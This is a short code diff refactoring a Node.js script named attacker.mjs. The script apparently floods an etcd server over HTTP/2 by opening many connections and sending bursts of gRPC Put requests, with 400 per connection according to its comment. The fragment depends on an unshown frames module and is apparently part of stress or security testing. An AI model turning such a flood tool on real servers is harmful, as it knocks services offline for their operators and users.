@@ -3,17 +3,10 @@
 //
 //   node attacker.mjs PORT CONNECTIONS
 import { connect } from 'node:net';
-import { PREFACE, frame, literal } from './frames.mjs';
+import { PREFACE, frame, requestBlock } from './frames.mjs';
 
 const [port, connections] = process.argv.slice(2).map(Number);
-const fields = {
-  ':method': 'POST',
-  ':scheme': 'http',
-  ':path': '/etcdserverpb.KV/Put',
-  'content-type': 'application/grpc',
-  te: 'trailers',
-};
-const block = Buffer.concat(Object.entries(fields).map(([name, value]) => literal(name, value)));
+const block = requestBlock('/etcdserverpb.KV/Put');
 const hello = Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]);
 
 /** What a connection sends at once: 400 requests, and their ends. */
